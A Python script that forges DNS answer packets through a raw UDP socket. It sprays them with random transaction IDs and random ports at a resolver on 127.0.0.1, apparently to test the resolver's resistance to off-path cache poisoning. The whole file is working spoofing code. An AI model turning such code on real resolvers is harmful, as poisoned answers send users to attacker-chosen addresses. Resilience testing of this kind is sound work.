# SPDX-License-Identifier: Apache-2.0
"""guess.py PORT NAME ADDRESS COUNT SECONDS: forged answers from 127.0.0.1:PORT, with random numbers, to random ports.

Off the path: it sees no question. The name's capitals are guessed too. Prints how many it sent, and the seconds."""
import os
import random
import socket
import struct
import sys
import time

import names


def main():
    port, name, address = int(sys.argv[1]), sys.argv[2], sys.argv[3]
    count, seconds = int(sys.argv[4]), float(sys.argv[5])
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
    question = names.wire_name(name) + struct.pack("!HH", names.A, 1)
    tail = struct.pack("!HHHHH", 0x8180, 1, 1, 0, 0) + question + b"\xc0\x0c" + struct.pack("!HHIH", names.A, 1, 0, 4)
    tail += names.address(address)
    length = 8 + 2 + len(tail)
    begun, sent, noise = time.monotonic(), 0, b""
    while sent < count and time.monotonic() - begun < seconds:
        if sent % 4096 == 0:
            noise = os.urandom(4 * 4096)
        number, to = struct.unpack_from("!HH", noise, 4 * (sent % 4096))
        try:  # a checksum of 0: none
            raw.sendto(struct.pack("!HHHHH", port, max(to, 1024), length, 0, number) + tail, ("127.0.0.1", 0))
        except OSError:
            time.sleep(random.random() / 1000)
        sent += 1
    print(sent, f"{time.monotonic() - begun:.1f}")


if __name__ == "__main__":
    main()
